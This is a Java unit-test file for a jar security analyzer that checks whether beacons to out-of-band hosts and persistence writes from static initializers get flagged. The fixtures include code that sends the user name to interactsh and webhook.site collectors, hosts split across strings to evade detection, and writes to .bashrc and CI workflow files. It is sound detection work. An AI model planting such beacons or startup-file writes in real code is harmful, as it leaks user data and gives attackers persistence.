package dev.gatehouse.analyzer.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Out-of-band hosts and persistence targets reached from JVM entry points. The hosts are string constants
 * in jars the tests compile and never load; where the host is not the point it ends in {@code .invalid}.
 */
class OutOfBandAndPersistenceTest {
  @TempDir Path tmp;

  private static JarFixture.Builder clinit(String body) {
    return JarFixture.builder().javaSource("fixture/Probe", """
        package fixture;
        import java.io.*;
        import java.net.*;
        import java.nio.file.*;
        public class Probe {
          static {
            try {
              %s
            } catch (Exception ignored) { }
          }
          static void send(String address) throws IOException {
            new URL(address).openStream().close();
          }
          public static String id() { return "probe"; }
        }
        """.formatted(body));
  }

  @Test
  void staticInitializerThatBeaconsToAnInteractionServerIsCriticalAndNamesTheHost() throws Exception {
    Path jar = clinit("new URL(\"https://x.oast.fun/\" + System.getProperty(\"user.name\")).openStream().close();")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.STATIC_INITIALIZER);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.summary()).isEqualTo(
          "static initializer of fixture.Probe reaches network; it calls an out-of-band host");
      assertThat(f.evidence().excerpt()).contains("to an out-of-band host")
          .contains("\"https://x.oast.fun/\" (out-of-band interaction host (interactsh))");
    });
  }

  @Test
  void aHostSplitAcrossConcatenatedPiecesIsReadWhole() throws Exception {
    Path jar = clinit("""
        String scheme = "https://";
        String low = ".oa";
        String high = "st.fun/";
        new URL(scheme + Probe.id() + low + high).openStream().close();
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.evidence().excerpt()).contains("built \"https://x.oast.fun/\"");
    });
  }

  @Test
  void aHostBuiltWithAStringBuilderIsReadWhole() throws Exception {
    Path jar = clinit("""
        StringBuilder b = new StringBuilder("https://");
        b.append(Long.toHexString(System.nanoTime())).append(".webhook").append(".site/").append(Probe.id());
        new URL(b.toString()).openStream().close();
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.evidence().excerpt()).contains("(webhook collector)");
    });
  }

  @Test
  void aHostPassedToAHelperMethodIsFollowedIntoTheCall() throws Exception {
    Path jar = clinit("send(\"https://canister.raw.icp0.io/collect\");").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.evidence().excerpt()).contains("java/net/URL.openStream to an out-of-band host")
          .contains("(Internet Computer canister)");
    });
  }

  @Test
  void aDnsLookupOfAnInteractionHostIsABeacon() throws Exception {
    Path jar = clinit("InetAddress.getByName(Probe.id() + \".x.oast.pro\");").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.capabilities()).contains(Capability.NETWORK, Capability.DNS);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    });
  }

  @Test
  void aRawPublicAddressIsOutOfBandAndAPrivateOneIsNot() throws Exception {
    Path raw = clinit("send(\"http://203.0.113.7:8080/p\");").build(tmp);
    Path local = clinit("send(\"http://127.0.0.1:8080/p\");").build(tmp);
    assertThat(JarAnalysis.of(raw).code()).singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.CRITICAL));
    assertThat(JarAnalysis.of(local).code()).singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
  }

  @Test
  void theCloudMetadataEndpointAloneIsHighNotAnAttack() throws Exception {
    Path jar = clinit("send(\"http://169.254.169.254/latest/meta-data/placement/region\");").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
  }

  @Test
  void anOrdinaryHostReachedFromAStaticInitializerStaysMedium() throws Exception {
    Path jar = clinit("send(\"https://api.example.invalid/v1\");").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).doesNotContain("out-of-band");
    });
  }

  @Test
  void aServiceThatAppendsToTheShellStartUpFileIsCritical() throws Exception {
    Path jar = JarFixture.builder().service("java.sql.Driver", "fixture.Driver")
        .javaSource("fixture/Driver", """
            package fixture;
            import java.io.*;
            public class Driver {
              static {
                try (Writer w = new FileWriter(new File(System.getProperty("user.home"), ".bashrc"), true)) {
                  w.write("echo hello\\n");
                } catch (IOException ignored) { }
              }
            }
            """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.SERVICE_REGISTRATION);
      assertThat(f.capabilities()).containsExactly(Capability.FILESYSTEM_WRITE);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.summary()).endsWith("reaches filesystem write outside the package; it writes a file that runs later");
      assertThat(f.evidence().excerpt()).contains("java/io/FileWriter.<init> on a persistence target")
          .contains("ldc \".bashrc\"");
    });
  }

  @Test
  void aRelativeCiWorkflowWrittenFromAStaticInitializerIsAPersistenceWrite() throws Exception {
    Path jar = clinit("""
        Files.writeString(Path.of(".github/workflows/" + Probe.id() + ".yml"), "on: push");
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.capabilities()).containsExactly(Capability.FILESYSTEM_WRITE);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    });
  }

  @Test
  void aMojoThatInstallsAGitHookIsHighBuildTimeCodeNotAnAttackShape() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("fixture/HookMojo", """
            package fixture;
            import java.nio.file.*;
            public class HookMojo {
              public void execute() throws Exception {
                Files.writeString(Path.of(".git/hooks/pre-commit"), "#!/bin/sh\\nmvn -q validate\\n");
              }
            }
            """)
        .resource("META-INF/maven/plugin.xml", "<plugin><mojos><mojo><goal>install-hooks</goal>"
            + "<implementation>fixture.HookMojo</implementation></mojo></mojos></plugin>")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
    });
  }

  @Test
  void aLibraryThatReadsItsOwnResourceAndNamesAShellFileInProseReachesNothing() throws Exception {
    Path jar = clinit("""
        try (InputStream in = Probe.class.getResourceAsStream("/fixture/defaults.properties")) {
          System.err.println("add the completion script to your .bashrc: see https://webhook.site/docs");
        }
        """).resource("fixture/defaults.properties", "a=1\n").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).isEmpty();
  }
}
